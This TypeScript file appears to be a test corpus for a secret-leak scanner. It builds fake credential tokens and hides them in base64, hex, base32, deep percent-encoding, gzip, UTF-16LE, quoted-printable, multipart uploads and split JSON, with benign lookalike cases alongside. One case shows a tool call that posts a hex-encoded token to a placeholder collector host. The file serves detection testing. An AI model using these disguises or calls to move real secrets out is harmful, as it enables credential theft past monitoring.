// Round two (issue 24), classes 5 and 5b: secrets inside encodings and disguises — hex/base64 of
// binary data holding a secret, hex in tool arguments, percent-encoding past the decode depth,
// base32, a letter glued to a token, browser multipart boundaries, gzip/zlib inside base64,
// UTF-16LE, quoted-printable, base64 four deep, a token split across two JSON objects.
import { deflateSync, gzipSync } from "node:zlib";
import type { CorpusCase } from "../types.ts";
import { base32, builder, checksummedToken, Rng, ALNUM, B64URL, BASE32 } from "./_gen.ts";

const r = new Rng(0x5ec2405);
const enc = builder({ category: "encoded-blobs", expect: "secrets" });
const dis = builder({ category: "disguises", expect: "secrets" });
export const cases: CorpusCase[] = [];

const ghp = () => checksummedToken(r, "gh" + "p_");
const akid = () => "AK" + "IA" + r.str(16, BASE32);
const xoxb = () => "xox" + "b-" + r.digits(12) + "-" + r.digits(13) + "-" + r.alnum(24);
const npm = () => "np" + "m_" + r.alnum(36);
const skLive = () => "sk" + "_live_" + r.alnum(24);
const ant = () => "sk-" + "ant-api03-" + r.str(93, B64URL) + "AA";
const b64 = (s: string | Uint8Array) => Buffer.from(s).toString("base64");
const hex = (s: string | Uint8Array) => Buffer.from(s).toString("hex");
const bin = (n: number) => r.bytes(n);
const cat = (...parts: Array<Uint8Array | string>) => Buffer.concat(parts.map((p) => (typeof p === "string" ? Buffer.from(p) : Buffer.from(p))));
const pctN = (s: string, n: number) => { let t = s; for (let i = 0; i < n; i++) t = [...Buffer.from(t)].map((b) => "%" + b.toString(16).toUpperCase().padStart(2, "0")).join(""); return t; };

// ---- class 5: blobs
enc.pos("b64-binary-with-token", "base64 of binary (protobuf-ish) holding a github token", JSON.stringify({ blob: b64(cat(bin(40), "\x12\x28", ghp(), bin(60))) }));
enc.pos("hex-binary-with-token", "hex of binary holding an npm token", `payload: ${hex(cat(bin(24), "\x0a\x28", npm(), bin(32)))}`);
enc.pos("b64-sqlite-page", "base64 of a binary page with an AWS key row", `{"file":"state.db","data":"${b64(cat(bin(100), Buffer.from([0, 0, 0x1d]), "aws_key", Buffer.from([0]), akid(), Buffer.from([0, 0]), bin(80)))}"}`);
enc.pos("hex-tool-arg", "hex of a token in a tools/call argument", JSON.stringify({ jsonrpc: "2.0", id: 7, method: "tools/call", params: { name: "http_post", arguments: { url: "https://collector.example.net/x", data_hex: hex("token=" + ghp()) } } }));
enc.pos("hex-tool-arg-binary", "hex of binary+token in tool arguments", JSON.stringify({ jsonrpc: "2.0", id: 8, method: "tools/call", params: { name: "write_file", arguments: { path: "/tmp/x.bin", bytes: hex(cat(bin(16), skLive(), bin(16))) } } }));
enc.pos("pct-5-deep-body", "percent-encoding 5 deep in a body", `note=${pctN("key=" + ghp(), 5)}`);
enc.pos("pct-6-deep-arg", "percent-encoding 6 deep in tool arguments", JSON.stringify({ name: "fetch", arguments: { q: pctN(xoxb(), 6) } }));
enc.pos("b32-token", "base32 of a token in a body", `data=${base32(Buffer.from(ghp()))}`);
enc.pos("b32-env", "base32 of a .env", `backup: ${base32(Buffer.from(`OPENAI_API_KEY=${"sk-" + "proj-" + r.str(60, ALNUM)}\nDB_PASSWORD=Tq8!${r.alnum(10)}\n`))}`);
enc.pos("b32-lower", "lower-case base32 of a slack token", `{"v":"${base32(Buffer.from(xoxb())).toLowerCase().replace(/=+$/, "")}"}`);
enc.ben("b64-png", "base64 of random binary (no text)", JSON.stringify({ thumb: b64(bin(300)) }));
enc.ben("hex-random", "hex of random bytes (a key id, a hash)", `fingerprint: ${hex(bin(32))}\nnonce: ${hex(bin(12))}`);
enc.ben("b32-totp", "TOTP-style base32 seed label in docs (short, no secret text)", `Scan the QR code or enter the setup key manually: it is shown once.`);
enc.ben("pct-url-plain", "ordinary percent-encoded query", `redirect=${encodeURIComponent("https://example.com/a b?c=d&e=f")}&lang=en`);
enc.ben("b64-binary-words", "base64 of binary with ordinary strings inside", b64(cat(bin(30), "\x00image/png\x00", bin(30), "\x00created by GIMP\x00", bin(30))));

// ---- 5b: disguises
const g1 = ghp();
dis.pos("glued-x-prefix", "letter glued before a token", `token=x${g1}`);
dis.pos("glued-x-suffix", "letter glued after a token", `export GH=${ghp()}x`);
dis.pos("glued-digit-prefix", "digit glued before an AWS key id", `id: 7${akid()}`);
dis.pos("glued-b64", "base64 of x+token", `blob=${b64("x" + ghp())}`);
dis.pos("glued-b64-suffix", "base64 of token+x", `{"d":"${b64(npm() + "z")}"}`);
dis.pos("glued-slack", "letter before slack token", `q${xoxb()}`);
dis.pos("webkit-b64-file", "browser multipart boundary with a base64 file part", `------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name="file"; filename="creds.txt"\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(`github: ${ghp()}\n`)}\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n`);
dis.pos("webkit-b64-env", "browser boundary, base64 .env part", `------WebKitFormBoundaryAbCdEf0123456789\r\nContent-Disposition: form-data; name="upload"; filename=".env"\r\nContent-Type: application/octet-stream\r\n\r\n${b64(`STRIPE_KEY=${skLive()}\n`)}\r\n------WebKitFormBoundaryAbCdEf0123456789--\r\n`);
dis.pos("gzip-b64", "gzip inside base64", JSON.stringify({ compressed: b64(gzipSync(Buffer.from(`GITHUB_TOKEN=${ghp()}\n`))) }));
dis.pos("zlib-b64", "zlib inside base64", `state=${b64(deflateSync(Buffer.from(JSON.stringify({ slack: xoxb() }))))}`);
dis.pos("gzip-b64-big", "gzip of a longer log inside base64", b64(gzipSync(Buffer.from("lorem ipsum dolor sit amet\n".repeat(40) + `npm token ${npm()}\n`))));
dis.pos("utf16le-raw", "UTF-16LE text (NULs between chars) in a body", Buffer.from(`token=${ghp()}`, "utf16le").toString("latin1"));
dis.pos("utf16le-b64", "base64 of UTF-16LE text", `{"doc":"${b64(Buffer.from(`AWS key ${akid()} secret ${r.str(40, ALNUM)}`, "utf16le"))}"}`);
dis.pos("quoted-printable", "quoted-printable mail body", `Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nHi, the deploy token is ${ghp().replace(/^(.{10})/, "$1=\r\n")} and the key=3D${skLive()}\r\n`);
dis.pos("qp-encoded-chars", "quoted-printable with =5F and =2D", `Content-Transfer-Encoding: quoted-printable\n\nkey: gh=70=5F${r.alnum(36)}\n`);
dis.pos("b64-4-deep", "base64 nested four deep", `x=${b64(b64(b64(b64("token " + ghp()))))}`);
dis.pos("b64-5-deep", "base64 nested five deep", `{"a":"${b64(b64(b64(b64(b64(ant())))))}"}`);
const t = ghp();
dis.pos("split-json-objects", "token split across two JSON objects of one payload", JSON.stringify([{ id: 1, part: t.slice(0, 14) }, { id: 2, part: t.slice(14) }]));
const t2 = skLive();
dis.pos("split-json-messages", "token split across two messages' content", JSON.stringify({ messages: [{ role: "user", content: t2.slice(0, 12) }, { role: "user", content: t2.slice(12) }] }));

dis.ben("glued-words", "identifiers that contain provider-like syllables", `const xghp_count = 3; const npm_install_x = true; // AKIA-like words: AKIAnalytics, SKIAgent`);
dis.ben("webkit-plain", "browser multipart with a photo", `------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name="photo"; filename="cat.jpg"\r\nContent-Type: image/jpeg\r\n\r\n${b64(bin(200))}\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n`);
dis.ben("gzip-plain", "gzip of ordinary text inside base64", JSON.stringify({ compressed: b64(gzipSync(Buffer.from("The quick brown fox jumps over the lazy dog.\n".repeat(30)))) }));
dis.ben("qp-plain", "quoted-printable French text", `Content-Transfer-Encoding: quoted-printable\r\n\r\nBonjour, voici le r=C3=A9sum=C3=A9 de la r=C3=A9union =E2=80=94 merci !\r\n`);
dis.ben("utf16-plain", "UTF-16LE of ordinary text", Buffer.from("Hello from the build server, all tests passed.", "utf16le").toString("latin1"));
dis.ben("split-json-ids", "ids across JSON objects", JSON.stringify([{ id: "ord_" + r.alnum(10) }, { id: "ord_" + r.alnum(10) }, { sku: "SKU-" + r.digits(6) }]));

cases.push(...enc.cases, ...dis.cases);

// Added with the fixes (regressions, not blind cases).
const qpTok = ghp();
dis.pos("qp-no-header", "quoted-printable body pasted without its MIME header", `Hi team,\n\nthe deploy key=3D${qpTok.slice(0, 12)}=\n${qpTok.slice(12)} - rotate it monday.\n`);
cases.push(dis.cases[dis.cases.length - 1]!);
